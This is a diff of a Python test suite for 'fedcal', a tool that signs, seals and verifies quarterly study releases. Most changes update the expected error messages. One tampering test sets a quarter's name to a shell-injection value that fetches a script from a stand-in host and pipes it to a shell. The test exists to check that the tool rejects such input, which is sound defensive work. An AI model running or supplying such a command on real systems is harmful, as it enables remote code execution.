@@ -109,6 +109,7 @@ ALTERED = [
     (told(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
     (told(lambda t: t["since"].clear()), "says changes"),
     (told(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
+    (told(lambda t: t["more"].clear()), "the statement is"),
     (told(lambda t: t.pop("curves")), "says curves = None"),
     (page("absent", "there"), "report.html is not what fedcal"),
     (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
@@ -119,7 +120,7 @@ ALTERED = [
     (release("release", law="normal"), "the release's law is"),
     (release("release", privacy='["All is exact."]'), "the release's privacy is"),
     (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
-    (told(lambda t: t.update(name="x; curl evil|sh; #")), "folder and quarter have one name"),
+    (told(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
     (told(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
     (told(lambda t: t.update(date="20270101")), "date is '20270101'"),
     (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
@@ -193,7 +194,7 @@ def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, capsys):
     folder, path = tmp_path / "q", tmp_path / "key.pem"
     key = make_key(path)
     quarter(folder, STUDY, key)
-    refused("q is not signed: fedcal study sign", verify, folder)
+    refused("not signed. fedcal study sign", verify, folder)
     refused("by the coordinator that sealed", sign, folder, KEY)
     assert "is signed" in command(capsys, "study", "sign", folder, "--key", path)
     assert "Not checked: the coordinator's key" in command(capsys, "study", "verify", folder)
@@ -219,7 +220,7 @@ def test_a_rehearsal_is_verified_and_said_to_be_one(tmp_path):
     (folder / "signature.json").write_text("{}")
     refused("signature.json is not what", verify, folder)
     (folder / "signature.json").unlink()
-    refused("a rehearsal: not signed", sign, folder, KEY)
+    refused("a rehearsal is not signed", sign, folder, KEY)
     refused("is not the folder of a quarter", verify, tmp_path)
     told(gap_of_cedar)(folder)
     refused("sites.cedar", verify, folder)
@@ -373,8 +374,8 @@ ATTACKS = {
     "a signed file": (beside("counts.csv", signed=True), "counts.csv is not what"),
     "a signed figure": (beside("curve-2.svg", signed=True), "curve-2.svg is not what"),
     "a signed earlier one": (beside("earlier-x.npz", signed=True), "earlier-x.npz is not what"),
-    "more in the sealed study": (sealed_with(note="exact"), "which is not part of such a file"),
-    "more in the signature": (signature_with_more, "which is not part of such a file"),
+    "more in the sealed study": (sealed_with(note="exact"), "unknown key of .* 'note'"),
+    "more in the signature": (signature_with_more, "unknown key of .* 'note'"),
 }
 
 
@@ -409,6 +410,6 @@ def test_a_release_is_not_begun_where_the_seal_says_that_its_key_is_not(tmp_path
     key = make_key(home / "coordinator.pem")
     (tmp_path / "sepsis.sealed").write_text(sealed_of(STUDY, key))
     line = call("study", "run", tmp_path / "sepsis.sealed", "2026Q4", code=2)
-    assert "coordinator.pem lies on the server's machine" in line
+    assert "coordinator.pem is there: by " in line
     shutil.rmtree(home)
     assert "no server runs here" in call("study", "run", tmp_path / "sepsis.sealed", "x", code=2)
